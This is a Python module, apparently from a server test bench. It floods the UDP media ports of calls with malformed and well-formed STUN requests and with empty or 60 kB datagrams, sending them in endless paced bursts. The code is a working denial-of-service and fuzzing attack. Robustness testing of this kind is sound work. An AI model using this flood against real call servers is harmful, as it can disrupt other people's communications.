"""Attacks by datagrams of a stranger to the calls' UDP ports."""

from __future__ import annotations

import asyncio
import secrets
import socket
import struct
from abc import abstractmethod
from collections.abc import Iterator
from itertools import cycle
from typing import ClassVar

from livehead.bench.attack.attack import Attack

BURST = 32
"""Datagrams between two looks at the line."""

COOKIE = 0x2112A442
"""RFC 8489 section 5."""


class _Datagrams(Attack):
    @abstractmethod
    def datagrams(self) -> Iterator[bytes]:
        """Without end."""

    async def run(self) -> None:
        if not self._target.media:
            self.outcome["no ports"] += 1
            await asyncio.get_running_loop().create_future()
        families = {socket.AF_INET: self._target.source, socket.AF_INET6: "::1"}
        sockets = {}
        try:
            for family, source in families.items():
                sockets[family] = socket.socket(family, socket.SOCK_DGRAM)
                sockets[family].setblocking(False)
                sockets[family].bind((source, 0))
            await self._send(sockets)
        finally:
            for each in sockets.values():
                each.close()

    async def _send(self, sockets: dict[socket.AddressFamily, socket.socket]) -> None:
        places = cycle(self._target.media)
        data = self.datagrams()
        while True:
            size = 0
            for _ in range(BURST):
                place, datagram = next(places), next(data)
                size += len(datagram)
                try:
                    sockets[socket.AF_INET6 if ":" in place[0] else socket.AF_INET].sendto(datagram, place)
                except BlockingIOError:
                    self.outcome["held back"] += 1
                except OSError as error:
                    self.outcome[f"not sent: {error.strerror}"] += 1
                else:
                    self.outcome["sent"] += 1
            await self._line.take(size, max(BURST, size // 1400))


class Stun(_Datagrams):
    name: ClassVar[str] = "stun"
    does: ClassVar[str] = "a flood of STUN requests to the calls' ports, malformed, or whole with a wrong name"

    def datagrams(self) -> Iterator[bytes]:
        whole = [_request(_attribute(0x0006, secrets.token_hex(9).encode())) for _ in range(32)]
        broken = [_request(struct.pack("!HH", 0x0006, 0xFFFF) + secrets.token_bytes(12)) for _ in range(16)]
        broken += [_request(_attribute(0x0020, b"\x00\x09" + secrets.token_bytes(6))) for _ in range(8)]
        broken += [_request(_attribute(0x0006, b"\xff\xfe\xfd\xfc")) for _ in range(8)]
        return cycle(broken + whole)


class Datagrams(_Datagrams):
    name: ClassVar[str] = "datagrams"
    does: ClassVar[str] = "empty datagrams and datagrams of 60 kB to the calls' ports"

    EMPTY = 256

    def datagrams(self) -> Iterator[bytes]:
        return cycle([b""] * self.EMPTY + [b"\x16" + bytes(59_999)] * 4)


def _attribute(kind: int, value: bytes) -> bytes:
    return struct.pack("!HH", kind, len(value)) + value + bytes(-len(value) % 4)


def _request(attributes: bytes) -> bytes:
    """A STUN binding request (RFC 8489 section 5)."""
    return struct.pack("!HHI", 1, len(attributes), COOKIE) + secrets.token_bytes(12) + attributes
